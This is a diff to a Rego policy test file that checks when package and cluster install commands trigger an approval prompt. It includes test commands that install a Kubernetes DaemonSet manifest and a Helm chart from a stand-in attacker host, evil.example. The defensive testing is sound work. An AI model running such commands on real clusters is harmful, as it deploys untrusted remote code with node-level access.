@@ -72,6 +72,10 @@ test_cluster_workloads_with_node_access_ask if {
 		["kubectl", "apply", "-f", "https://evil.example/daemonset.yaml"],
 		["helm", "install", "x", "https://evil.example/charts/x-1.0.tgz"],
 	] {
+		count(package_sources.ask) > 0 with input as _input([_seg(argv, {})])
+	}
+}
+
 # ------------------------------------------------------------ h12: more source spellings
 
 test_pep508_direct_reference_asks if {
@@ -87,6 +91,10 @@ test_ordinary_cluster_work_is_allowed if {
 		["helm", "install", "redis", "bitnami/redis"], ["helm", "template", "api", "charts/api", "--set", "securityContext.privileged=true"],
 		["kubectl", "debug", "pod/api", "-it", "--image=busybox"], ["kubectl", "get", "pods", "-o", "yaml"],
 	] {
+		count(package_sources.ask) == 0 with input as _input([_seg(argv, {})])
+	}
+}
+
 test_version_specifiers_are_not_direct_references if {
 	every argv in [["pip", "install", "requests>=2"], ["pip", "install", "requests==2.31.0"], ["uv", "add", "httpx[http2]"], ["pip", "install", "-e", "."], ["pip", "install", "-r", "requirements.txt"]] {
 		count(package_sources.ask) == 0 with input as _input([_seg(argv, {})])
